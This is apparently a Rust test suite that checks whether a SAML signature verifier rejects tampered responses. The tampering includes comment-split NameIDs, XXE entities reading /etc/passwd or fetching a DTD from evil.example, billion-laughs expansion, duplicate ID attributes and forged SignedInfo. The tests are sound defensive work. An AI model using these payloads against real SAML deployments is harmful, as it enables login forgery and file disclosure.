//! Markup that one reader sees and another does not.

use super::assert_harmless;
use crate::idp::{Signer, edit, response, sign_assertion};

/// The good response, signed, then changed.
fn changed(what: &str, with: &str) -> String {
    edit(&sign_assertion(&response(), &Signer::rsa()), what, with)
}

#[test]
fn text_that_is_split_signs_nobody_in() {
    for markup in ["<!--x-->", "<?x?>", "<![CDATA[]]>", "<x/>"] {
        for (what, with) in [
            (
                "ada@northwind.example</saml:NameID>",
                format!("ada@northwind.example{markup}.evil.example</saml:NameID>"),
            ),
            ("<ds:DigestValue>", format!("<ds:DigestValue>AAAA{markup}")),
            ("<saml:Audience>", format!("<saml:Audience>{markup}")),
            ("<saml:AttributeValue>ada", format!("<saml:AttributeValue>a{markup}da")),
        ] {
            assert_harmless(&with, &changed(what, &with));
        }
    }
}

#[test]
fn an_identity_provider_that_signs_markup_inside_a_name_signs_nobody_in_either() {
    for markup in ["<!--x-->", "<?x?>", "<![CDATA[x]]>"] {
        let name = format!("ada@northwind.example{markup}.evil.example</saml:NameID>");
        let unsigned = edit(&response(), "ada@northwind.example</saml:NameID>", &name);
        assert_harmless(markup, &sign_assertion(&unsigned, &Signer::rsa()));
    }
}

#[test]
fn a_document_type_signs_nobody_in_and_reads_no_file() {
    let laughs: String = (1..10)
        .map(|it| format!("<!ENTITY l{it} \"{}\">", format!("&l{};", it - 1).repeat(10)))
        .collect();
    for subset in [
        String::new(),
        "<!ENTITY x 'eve'>".to_owned(),
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>".to_owned(),
        "<!ENTITY % x SYSTEM 'https://evil.example/x.dtd'> %x;".to_owned(),
        "<!ATTLIST saml:Assertion ID CDATA #FIXED '_forged'>".to_owned(),
        format!("<!ENTITY l0 'ha'>{laughs}"),
        format!("<!ENTITY x '{}'>", "a".repeat(50_000)),
    ] {
        let doctype = format!("<!DOCTYPE samlp:Response [{subset}]><samlp:Response ");
        let xml = changed("<samlp:Response ", &doctype);
        assert_harmless(&subset, &xml);
        assert_harmless(&subset, &edit(&xml, "<saml:Subject>", "<saml:Subject>&l9;&x;"));
    }
}

#[test]
fn a_second_or_namespaced_id_signs_nobody_in() {
    for attribute in [
        "ID='_assertion'",
        "id='_assertion'",
        "Id='_assertion'",
        "iD='_assertion'",
        "xml:id='_assertion'",
        "saml:ID='_assertion'",
        "samlp:Id='_assertion'",
        "AssertionID='_assertion'",
        "ID='_response'",
        "xmlns:x='urn:x' x:ID='_forged'",
    ] {
        for element in ["<samlp:Response", "<saml:Assertion", "<saml:Subject", "<samlp:Status"] {
            let with = format!("{element} {attribute}");
            assert_harmless(&with, &changed(element, &with));
        }
    }
}

#[test]
fn a_signature_that_is_put_together_in_another_way_signs_nobody_in() {
    let signed = sign_assertion(&response(), &Signer::rsa());
    let start = signed.find("<ds:SignedInfo>").unwrap();
    let end = signed.find("</ds:SignedInfo>").unwrap() + "</ds:SignedInfo>".len();
    let info = signed[start..end].to_owned();
    let forged = edit(&info, "<ds:DigestValue>", "<ds:DigestValue>AAAA");
    let (reference, digest) = ("<ds:Reference ", "<ds:DigestValue>");
    for (name, xml) in [
        ("two SignedInfo, forged first", edit(&signed, &info, &format!("{forged}{info}"))),
        ("two SignedInfo, forged last", edit(&signed, &info, &format!("{info}{forged}"))),
        (
            "SignedInfo in an Object",
            edit(&signed, &info, &format!("{forged}<ds:Object>{info}</ds:Object>")),
        ),
        ("no SignedInfo", edit(&signed, &info, "")),
        (
            "no Reference",
            edit(&signed, reference, "<ds:Nothing ").replace("</ds:Reference>", "</ds:Nothing>"),
        ),
        (
            "two digests",
            edit(&signed, digest, "<ds:DigestValue>AAAA</ds:DigestValue><ds:DigestValue>"),
        ),
        (
            "a Manifest",
            edit(&signed, "</ds:KeyInfo>", "</ds:KeyInfo><ds:Object><ds:Manifest/></ds:Object>"),
        ),
        (
            "no value",
            edit(&signed, "<ds:SignatureValue>", "<ds:SignatureValue/><ds:Nothing>")
                .replace("</ds:SignatureValue>", "</ds:Nothing>"),
        ),
    ] {
        assert_harmless(name, &xml);
    }
}

#[test]
fn freshly_signed_transforms_that_choose_what_is_signed_sign_nobody_in() {
    let signer = Signer::rsa();
    let exclusive = r#"<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"#;
    for transform in [
        r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::*[local-name()='Subject'])</ds:XPath></ds:Transform>"#,
        r#"<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><x:XPath xmlns:x="http://www.w3.org/2002/06/xmldsig-filter2" Filter="intersect">//*[local-name()='Issuer']</x:XPath></ds:Transform>"#,
        r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">x</xsl:template></xsl:stylesheet></ds:Transform>"#,
        r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>"#,
        r#"<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#WithComments"/>"#,
    ] {
        for template in [
            edit(&signer.template("_assertion"), exclusive, transform),
            edit(&signer.template("_assertion"), exclusive, &format!("{transform}{exclusive}")),
            edit(&signer.template("_assertion"), exclusive, &format!("{exclusive}{transform}")),
        ] {
            let xml = response().replace("@response@", "").replace("@assertion@", &template);
            // What the signer itself cannot do stays with an empty digest.
            let signed = signer.try_sign(&xml).unwrap_or(xml);
            assert_harmless(transform, &signed);
        }
    }
}
